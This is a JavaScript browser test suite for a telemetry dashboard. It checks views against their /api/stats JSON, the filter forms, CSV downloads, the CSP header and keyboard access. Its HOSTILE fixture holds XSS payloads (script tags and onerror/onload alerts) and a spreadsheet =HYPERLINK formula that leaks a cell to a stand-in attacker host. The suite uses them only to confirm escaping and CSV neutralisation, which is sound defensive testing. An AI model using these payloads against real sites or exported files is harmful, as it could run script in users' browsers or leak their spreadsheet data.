// The dashboard over a realistic data set (sample-data: 20,000 events over 90 days ending
// today UTC, seed 42, in SQLite), in headless Chromium: every view's tables, charts and
// figures against the /api/stats JSON its data-json link points at; the filter form (range,
// dates, product) by click and by keyboard; an event's property on /events; CSV through
// its link (a real download) against the table; hostile strings shown as text and
// neutralised in CSV; the CSP header; no request leaving 127.0.0.1; a keyboard-only pass
// and the controls' labels; a screenshot of each view under target/dashboard-test/.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { apiGet, launch, openPage, screenshotDir, visit } from './lib/browser.mjs';
import { addDays, Collector, collectorBin, sampleData, tempDir, todayUtc } from './lib/collector.mjs';
import { comparePage, contractNotes, fetchViewJson, labelField, missingColumns, partialCharts, neutralised, parseCsv, PROPERTIES, readLinks, readTables, truncatedTables, VIEWS } from './lib/dashboard.mjs';

collectorBin(); // fails the file at once, saying why, when TELEMETRY_COLLECTOR_BIN is unset or wrong

const EVENTS = 20000;
const SEED = 42;
const END = todayUtc();

const HOSTILE = {
  event: '<script>alert(1)</script>',
  property: '"><img src=x onerror=alert(2)>',
  product: '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
  version: '@SUM(1+1)',
  os: '-2+3',
  fingerprint: '<img src=x onerror=alert(4)>',
  operation: '<svg onload=alert(5)>',
};

let tmp;
let collector;
let browser;
let context;
let page;
let shots;
let csvChecked = false;
const csvHeaderProblems = [];

before(async () => {
  tmp = tempDir();
  const db = join(tmp.dir, 'events.db');
  const { summary, ms } = await sampleData(db, { events: EVENTS, seed: SEED, days: 90, end: END });
  console.log(`sample-data --events ${EVENTS} --seed ${SEED} --days 90 --end ${END}: ${Math.round(ms)} ms, ${JSON.stringify(summary)}`);
  collector = await Collector.start(db);
  browser = await launch();
  ({ context, page } = await openPage(browser, collector.url));
  shots = screenshotDir();
});

after(async () => {
  if (truncatedTables.size) console.log(`tables shown truncated (first rows, [data-truncated]): ${[...truncatedTables].join(', ')}`);
  if (partialCharts.size) console.log(`charts drawing only their largest series: ${[...partialCharts].join(', ')}`);
  if (missingColumns.size) console.log(`contract columns a table does not show: ${[...missingColumns].join(', ')}`);
  for (const n of contractNotes) console.log(`differs from the contract: ${n}`);
  await context?.close();
  await browser?.close();
  await collector?.stop();
  tmp?.remove();
});

function problemsMessage(problems, where) {
  return `${where}: the page differs from its JSON:\n  ${problems.slice(0, 25).join('\n  ')}`;
}

// Visits a view, checks it against its JSON (and, on /events with a property chosen, the
// properties JSON too); returns the JSON.
async function checkView(view, query = '') {
  await visit(page, view.path + query);
  const { href, data } = await fetchViewJson(page, view.name);
  const problems = await comparePage(page, view, data);
  assert.deepEqual(problems, [], problemsMessage(problems, `${view.path}${query} vs ${href}`));
  return data;
}

async function filterForm() {
  const form = page.locator('form[data-filter]');
  assert.equal(await form.count(), 1, `${page.url()}: one <form data-filter>`);
  return form;
}

describe('a realistic data set', () => {
  test('every view matches its /api/stats JSON, with nav, filter form and a screenshot', async () => {
    const saved = [];
    for (const view of VIEWS) {
      const data = await checkView(view);
      const nav = await page.locator('nav a').evaluateAll((as) => as.map((a) => new URL(a.href).pathname));
      for (const v of VIEWS) assert.ok(nav.includes(v.path), `${view.path}: <nav> has no link to ${v.path} (${nav.join(', ')})`);
      const form = await filterForm();
      for (const sel of ['select[name=range]', 'input[type=date][name=from]', 'input[type=date][name=to]', 'select[name=product]']) {
        assert.equal(await form.locator(sel).count(), 1, `${view.path}: the filter form has no ${sel}`);
      }
      assert.equal(await form.locator('select[name=product] option').first().getAttribute('value'), '', `${view.path}: the first product option is not "" (all)`);
      assert.equal(await form.getByRole('button', { name: 'Apply' }).count(), 1, `${view.path}: no "Apply" button`);
      if (view.name === 'crashes') {
        // Each group's example (scrubbed frames) in a <details data-example>.
        const examples = await page.locator('details[data-example]').evaluateAll((ds) => ds.map((d) => ({ id: d.getAttribute('data-example'), text: d.textContent })));
        assert.equal(examples.length, data.groups.length, `/crashes: ${examples.length} <details data-example>, ${data.groups.length} groups`);
        data.groups.forEach((g, i) => {
          assert.equal(examples[i].id, g.fingerprint, `example ${i} names group ${g.fingerprint}`);
          const frames = g.example?.$exception_list?.[0]?.stacktrace?.frames ?? [];
          for (const f of frames) assert.ok(examples[i].text.includes(f.function), `example of ${g.fingerprint} shows frame ${f.function}`);
        });
      }
      const rows = Object.values(view.tables).reduce((n, t) => n + (data[t.field]?.length ?? 0), 0);
      assert.ok(rows > 0, `${view.path}: the sample data shows no rows at all`);
      const file = join(shots, `${view.name}.png`);
      await page.screenshot({ path: file, fullPage: true });
      saved.push(file);
    }
    console.log(`screenshots: ${saved.join(' ')}`);
  });

  test('the product list is /api/stats/products, and the product select offers it', async () => {
    await visit(page, '/');
    const products = (await apiGet(page, '/api/stats/products')).json();
    for (const p of ['chromadb', 'qdrant', 'evidently']) assert.ok(products.includes(p), `/api/stats/products lacks ${p}: ${JSON.stringify(products)}`);
    const options = await page.locator('form[data-filter] select[name=product] option').evaluateAll((os) => os.map((o) => o.value));
    assert.deepEqual(options.slice(1).sort(), [...products].sort(), 'product options vs /api/stats/products');
  });

  test('range and product chosen in the form (click, then keyboard) change every figure as the API says', async () => {
    const ids = VIEWS[0];
    const all30 = await checkView(ids);
    let form = await filterForm();
    await form.locator('select[name=range]').selectOption('7');
    await Promise.all([page.waitForURL(/range=7/), form.getByRole('button', { name: 'Apply' }).click()]);
    const { href, data: last7 } = await fetchViewJson(page, 'ids');
    assert.match(href, /range=7/, 'the data-json link follows the range');
    let problems = await comparePage(page, ids, last7);
    assert.deepEqual(problems, [], problemsMessage(problems, `range 7 vs ${href}`));
    assert.deepEqual(last7, (await apiGet(page, '/api/stats/ids?range=7')).json(), "the page's JSON link is /api/stats/ids?range=7");
    assert.ok(last7.active_in_range < all30.active_in_range, `7 days: ${last7.active_in_range} active, 30 days: ${all30.active_in_range}`);
    assert.equal(last7.daily.length, 7, `range=7 shows ${last7.daily.length} days: ${last7.daily.map((d) => d.day).join(', ')}`);
    assert.equal(last7.daily.at(-1).day, END, 'range=7 ends today');

    // The product by keyboard: focus the select, pick qdrant, Enter on Apply.
    form = await filterForm();
    assert.equal(await form.locator('select[name=range]').inputValue(), '7', 'the range select shows the range in force');
    await form.locator('select[name=product]').focus();
    await form.locator('select[name=product]').selectOption('qdrant');
    await form.getByRole('button', { name: 'Apply' }).focus();
    await Promise.all([page.waitForURL(/product=qdrant/), page.keyboard.press('Enter')]);
    const { href: qHref, data: qdrant } = await fetchViewJson(page, 'ids');
    assert.match(qHref, /product=qdrant/);
    assert.match(qHref, /range=7/, 'the range stays when the product changes');
    problems = await comparePage(page, ids, qdrant);
    assert.deepEqual(problems, [], problemsMessage(problems, `qdrant, 7 days vs ${qHref}`));
    assert.ok(qdrant.active_in_range > 0 && qdrant.active_in_range < last7.active_in_range, `qdrant ${qdrant.active_in_range}, all ${last7.active_in_range}`);

    // The product filter on /versions: only qdrant's versions.
    await visit(page, '/versions?range=30&product=qdrant');
    const { data: versions } = await fetchViewJson(page, 'versions');
    assert.ok(versions.now.length > 0 && versions.now.every((r) => r.product === 'qdrant'), `versions for qdrant: ${JSON.stringify(versions.now).slice(0, 300)}`);
    problems = await comparePage(page, VIEWS[1], versions);
    assert.deepEqual(problems, [], problemsMessage(problems, '/versions?product=qdrant'));
  });

  test('from and to typed into the date inputs select those days', async () => {
    const from = addDays(END, -20);
    const to = addDays(END, -14);
    await visit(page, '/events');
    const form = await filterForm();
    // Typed over the dates shown, they count even while the select still names a preset.
    assert.equal(await form.locator('select[name=range]').inputValue(), '30', 'the default preset is selected');
    await form.locator('input[name=from]').fill(from);
    await form.locator('input[name=to]').fill(to);
    await Promise.all([page.waitForURL(/from=/), form.getByRole('button', { name: 'Apply' }).click()]);
    const { href, data } = await fetchViewJson(page, 'events');
    assert.match(href, new RegExp(`from=${from}`));
    assert.match(href, new RegExp(`to=${to}`));
    const days = [...new Set(data.daily.map((d) => d.day))].sort();
    assert.ok(days.length > 0 && days[0] >= from && days.at(-1) <= to, `days ${days[0]}..${days.at(-1)}, asked ${from}..${to}`);
    const problems = await comparePage(page, VIEWS[3], data);
    assert.deepEqual(problems, [], problemsMessage(problems, `/events ${from}..${to}`));
    assert.equal(await form.locator('input[name=from]').inputValue(), from, 'the from input shows the day in force');
    assert.equal(await (await filterForm()).locator('select[name=range]').inputValue(), 'custom', 'the select now says the dates are custom');
  });

  test('/events: choosing an event and then a numeric property shows its values and daily sums', async () => {
    await visit(page, '/events');
    let form = page.locator('form[data-property]');
    assert.equal(await form.count(), 1, '/events has one <form data-property>');
    const submit = () => form.locator('button, input[type=submit]').first();
    await form.locator('select[name=event]').selectOption('collection_add');
    await Promise.all([page.waitForURL(/event=collection_add/), submit().click()]);
    form = page.locator('form[data-property]');
    const props = await form.locator('select[name=property] option').evaluateAll((os) => os.map((o) => o.value));
    for (const p of ['add_amount', 'embedding_function']) assert.ok(props.includes(p), `collection_add's properties offered: ${props.join(', ')}`);
    await form.locator('select[name=property]').selectOption('add_amount');
    await Promise.all([page.waitForURL(/property=add_amount/), submit().click()]);
    const { href, data } = await fetchViewJson(page, 'properties');
    assert.match(href, /event=collection_add/);
    assert.match(href, /property=add_amount/);
    assert.equal(data.event, 'collection_add');
    assert.equal(data.property, 'add_amount');
    assert.ok(data.daily_sums.length > 0 && data.daily_sums.every((d) => d.sum > 0), 'add_amount is summed per day');
    let problems = await comparePage(page, PROPERTIES, data);
    assert.deepEqual(problems, [], problemsMessage(problems, `/events property add_amount vs ${href}`));
    // The events part of the page is still there and right.
    const { data: events } = await fetchViewJson(page, 'events');
    problems = await comparePage(page, VIEWS[3], events);
    assert.deepEqual(problems, [], problemsMessage(problems, '/events with a property chosen'));

    // A text property: its values broken down.
    form = page.locator('form[data-property]');
    await form.locator('select[name=property]').selectOption('embedding_function');
    await Promise.all([page.waitForURL(/property=embedding_function/), submit().click()]);
    const { data: ef } = await fetchViewJson(page, 'properties');
    assert.ok(ef.values.length > 1, `embedding_function values: ${JSON.stringify(ef.values)}`);
    problems = await comparePage(page, PROPERTIES, ef);
    assert.deepEqual(problems, [], problemsMessage(problems, '/events property embedding_function'));
    await page.screenshot({ path: join(shots, 'events-property.png'), fullPage: true });
  });

  test('CSV: the ids-daily link downloads a file equal to the table; every table\'s CSV equals it', async () => {
    await visit(page, '/');
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('a[data-csv="ids-daily"]').click()]);
    const file = join(tmp.dir, 'ids-daily.csv');
    await download.saveAs(file);
    assert.match(download.suggestedFilename(), /\.csv$/, `download name ${download.suggestedFilename()}`);
    const tables = await readTables(page);
    const problems = csvProblems('ids-daily', VIEWS[0].tables['ids-daily'], readFileSync(file, 'utf8'), tables['ids-daily']);

    for (const view of [...VIEWS, { ...PROPERTIES, path: '/events?event=collection_add&property=add_amount' }]) {
      await visit(page, view.path);
      const { csv } = await readLinks(page);
      const shown = await readTables(page);
      for (const [name, spec] of Object.entries(view.tables)) {
        const href = csv[name];
        assert.ok(href, `${view.path}: no <a data-csv="${name}">`);
        assert.match(href, new RegExp(`^/api/stats/[a-z]+\\.csv\\?(.*&)?table=${name}(&|$)`), `data-csv="${name}" href ${href}`);
        const res = await apiGet(page, href);
        assert.equal(res.status, 200, `GET ${href}: ${res.status}`);
        assert.match(res.headers['content-disposition'] ?? '', /^attachment/, `GET ${href}: Content-Disposition ${res.headers['content-disposition']}`);
        assert.match(res.headers['content-type'] ?? '', /text\/csv/, `GET ${href}: content-type`);
        problems.push(...csvProblems(name, spec, res.text, shown[name]));
      }
    }
    assert.deepEqual(problems, [], 'CSV vs the tables');
    csvChecked = true;
  });

  test("every CSV's header is the contract's columns", () => {
    assert.ok(csvChecked, 'the CSV test ran');
    assert.deepEqual(csvHeaderProblems, []);
  });

  test('hostile names are shown as text, run nothing, and are neutralised in CSV', async () => {
    const now = new Date().toISOString();
    const base = { product: HOSTILE.product, product_version: HOSTILE.version, os: HOSTILE.os, arch: 'x86_64', runtime: 'python' };
    await collector.postBatch([
      { event: HOSTILE.event, distinct_id: 'hostile-1', timestamp: now, properties: { ...base, [HOSTILE.property]: 5, batch_size: 2 } },
      { event: HOSTILE.event, distinct_id: 'hostile-2', timestamp: now, properties: { ...base, [HOSTILE.property]: 7 } },
      {
        event: '$exception',
        distinct_id: 'hostile-1',
        timestamp: now,
        properties: {
          ...base,
          $exception_fingerprint: HOSTILE.fingerprint,
          $exception_list: [{ type: '<b>Err</b>', value: '<script>alert(6)</script>', stacktrace: { frames: [{ filename: '<svg onload=alert(7)>.py', function: 'f', lineno: 1 }] } }],
        },
      },
      {
        event: 'usage_report',
        distinct_id: 'hostile-1',
        timestamp: now,
        properties: { ...base, operations: { [HOSTILE.operation]: { count: 3, fail_count: 1, avg_duration_micros: 10 } } },
      },
    ]);

    // Unfiltered and filtered on the hostile product (chosen in the form by its label).
    await visit(page, '/');
    const form = await filterForm();
    await form.locator('select[name=product]').selectOption({ label: HOSTILE.product });
    await Promise.all([page.waitForURL(/product=/), form.getByRole('button', { name: 'Apply' }).click()]);
    const query = new URL(page.url()).search;
    assert.equal(new URL(page.url()).searchParams.get('product'), HOSTILE.product, 'the hostile product round-trips through the form');

    const expectText = {
      '/versions': [['versions-now', HOSTILE.product], ['versions-now', HOSTILE.version]],
      '/environment': [['env-os', HOSTILE.os]],
      '/events': [['events-totals', HOSTILE.event]],
      '/usage': [['usage-operations', HOSTILE.operation]],
      '/crashes': [['crash-groups', HOSTILE.fingerprint]],
    };
    for (const q of ['', query]) {
      for (const view of VIEWS) {
        await checkView(view, q);
        await assertInert(page, `${view.path}${q}`);
        const tables = await readTables(page);
        for (const [name, text] of expectText[view.path] ?? []) {
          const cells = tables[name]?.rows.flat().map((c) => c.text) ?? [];
          assert.ok(cells.includes(text), `${view.path}${q}: ${name} has no cell reading ${JSON.stringify(text)} (the raw text, unescaped once)`);
        }
      }
    }
    await page.screenshot({ path: join(shots, 'hostile-crashes.png'), fullPage: true });

    // The property chosen on /events.
    await visit(page, `/events${query}&event=${encodeURIComponent(HOSTILE.event)}&property=${encodeURIComponent(HOSTILE.property)}`);
    const props = await page.locator('form[data-property] select[name=property] option').evaluateAll((os) => os.map((o) => o.value));
    assert.ok(props.includes(HOSTILE.property), `the hostile property is offered: ${JSON.stringify(props)}`);
    const { data } = await fetchViewJson(page, 'properties');
    assert.equal(data.property, HOSTILE.property);
    const problems = await comparePage(page, PROPERTIES, data);
    assert.deepEqual(problems, [], problemsMessage(problems, 'hostile property'));
    await assertInert(page, 'hostile property');

    // CSV: formula-looking text cells get a leading ', others are verbatim.
    const csvCells = async (path, table) => {
      await visit(page, path);
      const { csv } = await readLinks(page);
      return parseCsv((await apiGet(page, csv[table])).text).flat();
    };
    const versions = await csvCells(`/versions${query}`, 'versions-now');
    assert.ok(versions.includes(neutralised(HOSTILE.product)), `versions-now CSV: ${JSON.stringify(versions)}`);
    assert.ok(versions.includes(neutralised(HOSTILE.version)), `versions-now CSV has ${neutralised(HOSTILE.version)}`);
    assert.ok(!versions.includes(HOSTILE.product), 'versions-now CSV has the raw =HYPERLINK');
    const os = await csvCells(`/environment${query}`, 'env-os');
    assert.ok(os.includes(neutralised(HOSTILE.os)), `env-os CSV: ${JSON.stringify(os)}`);
    const events = await csvCells(`/events${query}`, 'events-totals');
    assert.ok(events.includes(HOSTILE.event), `events-totals CSV keeps ${HOSTILE.event} verbatim: ${JSON.stringify(events)}`);
    assert.deepEqual(page.dialogs, [], 'no dialog opened');
  });

  test('CSP header on every view is strict; no script, no external URL; no request left 127.0.0.1', async () => {
    const problems = [];
    for (const view of VIEWS) {
      const res = await visit(page, view.path);
      const csp = res.headers()['content-security-policy'];
      if (!csp) problems.push(`${view.path}: no Content-Security-Policy header`);
      else problems.push(...cspProblems(csp, view.path));
      await assertInert(page, view.path);
      const refs = await page.evaluate(() => {
        const out = [];
        for (const el of document.querySelectorAll('*')) {
          for (const attr of ['href', 'src', 'action', 'formaction', 'srcset', 'poster', 'data', 'xlink:href']) {
            const v = el.getAttribute(attr);
            if (v !== null) out.push({ tag: el.tagName.toLowerCase(), rel: el.getAttribute('rel'), attr, v });
          }
          const style = el.getAttribute('style');
          if (style && /url\(/i.test(style)) out.push({ tag: el.tagName.toLowerCase(), attr: 'style', v: style });
        }
        return out;
      });
      for (const r of refs) {
        if (/^([a-z][a-z0-9+.-]*:|\/\/)/i.test(r.v.trim()) && !r.v.startsWith(`${collector.url}/`)) problems.push(`${view.path}: <${r.tag} ${r.attr}="${r.v}"> points outside the collector`);
        const isAsset = (r.tag === 'link' && /stylesheet|icon|preload/.test(r.rel ?? '')) || ['img', 'script', 'source', 'image', 'video', 'audio', 'iframe', 'embed', 'object'].includes(r.tag);
        if (isAsset && !r.v.startsWith('/assets/') && !r.v.startsWith('#')) problems.push(`${view.path}: <${r.tag} ${r.attr}="${r.v}"> is not under /assets/`);
      }
    }
    for (const u of page.requests) {
      if (!u.startsWith(`${collector.url}/`)) {
        problems.push(`a request left the collector: ${u}`);
        continue;
      }
      const path = new URL(u).pathname;
      if (!VIEWS.some((v) => v.path === path) && !path.startsWith('/assets/') && !path.startsWith('/api/stats/')) problems.push(`a sub-resource outside /assets/: ${u}`);
    }
    // Chromium asks for /favicon.ico by itself (no page request event): its 404 shows as a
    // console error naming no URL. Other failed loads are page requests, in failedResponses.
    const favicon = /^Failed to load resource: the server responded with a status of 404/;
    for (const e of page.consoleErrors) {
      if (favicon.test(e) && page.failedResponses.length === 0) contractNotes.add('no favicon: Chromium\'s own GET /favicon.ico gets 404 (a console error on every page load)');
      else problems.push(`console error (a CSP violation shows here): ${e}`);
    }
    for (const r of page.failedResponses) problems.push(`a page request failed: ${r}`);
    console.log(`CSP: ${(await visit(page, '/')).headers()['content-security-policy']}`);
    console.log(`requests made by the pages so far: ${page.requests.length}, outside ${collector.url}: ${page.requests.filter((u) => !u.startsWith(collector.url)).length}`);
    assert.deepEqual(problems, []);
  });

  test('keyboard only: Tab reaches the filter controls, Apply and every nav link; each control has a label', async () => {
    await visit(page, '/');
    const reached = [];
    for (let i = 0; i < 120; i++) {
      await page.keyboard.press('Tab');
      reached.push(
        await page.evaluate(() => {
          const el = document.activeElement;
          if (!el || el === document.body) return 'body';
          const name = el.getAttribute('name');
          if (el.tagName === 'A') return `a ${new URL(el.href).pathname}`;
          return `${el.tagName.toLowerCase()}${name ? ` ${name}` : ''}${el.tagName === 'BUTTON' ? ` "${el.textContent.trim()}"` : ''}`;
        }),
      );
    }
    const wanted = ['select range', 'input from', 'input to', 'select product', 'button "Apply"', ...VIEWS.map((v) => `a ${v.path}`)];
    const missing = wanted.filter((w) => !reached.includes(w));
    assert.deepEqual(missing, [], `Tab never reached these (reached: ${[...new Set(reached)].join(' | ')})`);

    // Every control of the filter form (and /events's property form) is found by its label.
    for (const [path, forms] of [['/', ['form[data-filter]']], ['/events?event=collection_add', ['form[data-filter]', 'form[data-property]']]]) {
      await visit(page, path);
      for (const formSel of forms) {
        const controls = await page.locator(`${formSel} select, ${formSel} input:not([type=hidden]):not([type=submit])`).evaluateAll((els) =>
          els.map((el) => ({
            name: el.getAttribute('name'),
            label: (el.labels?.[0]?.textContent ?? '').replace(/\s+/g, ' ').trim() || el.getAttribute('aria-label') || '',
          })),
        );
        assert.ok(controls.length >= (formSel === 'form[data-filter]' ? 4 : 2), `${path} ${formSel}: ${controls.length} controls`);
        for (const c of controls) {
          assert.ok(c.label, `${path} ${formSel}: the control ${c.name} has no label`);
          const byLabel = page.locator(formSel).getByLabel(c.label, { exact: true });
          assert.equal(await byLabel.count(), 1, `${path}: getByLabel(${JSON.stringify(c.label)}) finds ${await byLabel.count()} controls`);
          assert.equal(await byLabel.getAttribute('name'), c.name, `getByLabel(${JSON.stringify(c.label)}) is not ${c.name}`);
        }
      }
    }

    // A whole filter change by keyboard: Tab to the range select, arrow to another range,
    // Tab on to Apply, Enter.
    await visit(page, '/');
    const before = await page.locator('form[data-filter] select[name=range]').inputValue();
    await page.locator('body').focus();
    await page.evaluate(() => document.activeElement?.blur());
    let focused = '';
    for (let i = 0; i < 80 && focused !== 'range'; i++) {
      await page.keyboard.press('Tab');
      focused = await page.evaluate(() => document.activeElement?.getAttribute('name') ?? '');
    }
    assert.equal(focused, 'range', 'Tab reaches the range select');
    await page.keyboard.press(before === '365' ? 'ArrowUp' : 'ArrowDown');
    const chosen = await page.locator('form[data-filter] select[name=range]').inputValue();
    assert.notEqual(chosen, before, 'an arrow key changes the range');
    let onApply = false;
    for (let i = 0; i < 40 && !onApply; i++) {
      await page.keyboard.press('Tab');
      onApply = await page.evaluate(() => document.activeElement?.textContent.trim() === 'Apply');
    }
    assert.ok(onApply, 'Tab reaches Apply after the range');
    await Promise.all([page.waitForURL(new RegExp(`range=${chosen}`)), page.keyboard.press('Enter')]);
    const { data } = await fetchViewJson(page, 'ids');
    const problems = await comparePage(page, VIEWS[0], data);
    assert.deepEqual(problems, [], problemsMessage(problems, `range ${chosen} by keyboard`));
  });
});

// A CSV (text) against its table as shown: the header is the contract's columns, each row
// the table's row (numbers by data-value, text neutralised). Returns the problems.
function csvProblems(name, spec, text, table) {
  const problems = [];
  const rows = parseCsv(text);
  if (JSON.stringify(rows[0]) !== JSON.stringify(spec.columns)) csvHeaderProblems.push(`${name}.csv header ${JSON.stringify(rows[0])}, the contract's ${JSON.stringify(spec.columns)}`);
  if (!rows[0]?.every((c) => spec.columns.includes(c))) problems.push(`${name}.csv header ${JSON.stringify(rows[0])} has columns outside the contract's`);
  if (!table) return [...problems, `no table ${name} to compare its CSV with`];
  const body = rows.slice(1);
  if (table.truncated ? body.length < table.rows.length : body.length !== table.rows.length) problems.push(`${name}.csv: ${body.length} rows, the table shows ${table.rows.length}`);
  if (table.declared !== null && body.length !== Number(table.declared)) problems.push(`${name}.csv: ${body.length} rows, data-rows=${table.declared}`);
  const header = rows[0] ?? [];
  const columns = header.length === table.headers.length ? header : table.headers.map(labelField);
  body.slice(0, table.rows.length).forEach((row, i) => {
    if (row.length !== header.length) problems.push(`${name}.csv row ${i}: ${row.length} cells, ${header.length} in its header`);
    columns.forEach((col, j) => {
      const k = header.indexOf(col);
      const cell = table.rows[i][j];
      if (k < 0 || !cell) return;
      if (cell.value !== null) {
        if (!(Math.abs(Number(row[k]) - Number(cell.value)) <= 1e-9 * Math.max(1, Math.abs(Number(cell.value))))) problems.push(`${name}.csv row ${i} ${col}: ${row[k]}, data-value ${cell.value}`);
      } else if (['day', 'week', 'distinct_id', 'product', 'version', 'event', 'value', 'operation', 'fingerprint', 'timestamp'].includes(col)) {
        if (row[k] !== neutralised(cell.text)) problems.push(`${name}.csv row ${i} ${col}: ${JSON.stringify(row[k])}, the table ${JSON.stringify(cell.text)}`);
      }
    });
  });
  return problems.slice(0, 20);
}

// Nothing on the page can run: no <script>, no on* attribute, no element a hostile string
// would have made, no dialog so far.
async function assertInert(page, where) {
  const found = await page.evaluate(() => ({
    scripts: document.scripts.length,
    handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`)),
    injected: document.querySelectorAll('img[src="x"], svg[onload]').length + [...document.querySelectorAll('b')].filter((b) => b.textContent === 'Err').length,
    javascriptUrls: [...document.querySelectorAll('[href], [src], [action]')].filter((el) => /^\s*javascript:/i.test(el.getAttribute('href') ?? el.getAttribute('src') ?? el.getAttribute('action'))).length,
  }));
  assert.deepEqual(found, { scripts: 0, handlers: [], injected: 0, javascriptUrls: 0 }, `${where}: the page has something that runs`);
  assert.deepEqual(page.dialogs, [], `${where}: a dialog opened`);
}

// script-src (or default-src) only 'self' or 'none'; no unsafe-inline/eval for scripts, no
// wildcard, scheme or host source anywhere; object-src none; base-uri, frame-ancestors and
// form-action restricted. Returns the problems.
function cspProblems(csp, where) {
  const problems = [];
  const directives = Object.fromEntries(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([k, ...v]) => [k.toLowerCase(), v]),
  );
  const effective = (name) => directives[name] ?? directives['default-src'];
  const script = effective('script-src');
  if (!script) problems.push(`${where}: CSP has neither script-src nor default-src: ${csp}`);
  else if (!script.every((s) => ["'none'", "'self'"].includes(s))) problems.push(`${where}: script-src ${script.join(' ')} (${csp})`);
  for (const [name, sources] of Object.entries(directives)) {
    for (const s of sources) {
      if (/^'unsafe-(eval|hashes|inline)'$/.test(s) && name !== 'style-src') problems.push(`${where}: ${name} ${s} (${csp})`);
      if ((s === '*' || /^[a-z]+:$/i.test(s) || /^(https?:\/\/|\*\.)/i.test(s)) && !(name === 'img-src' && s === 'data:')) problems.push(`${where}: ${name} allows ${s} (${csp})`);
    }
  }
  const only = (name, allowed) => {
    const v = name === 'object-src' ? effective(name) : directives[name];
    if (!v || !v.every((s) => allowed.includes(s))) problems.push(`${where}: ${name} is ${v ? v.join(' ') : 'not set'}, want ${allowed.join(' or ')} (${csp})`);
  };
  only('object-src', ["'none'"]);
  only('frame-ancestors', ["'none'", "'self'"]);
  only('base-uri', ["'none'", "'self'"]);
  only('form-action', ["'self'"]);
  return problems;
}
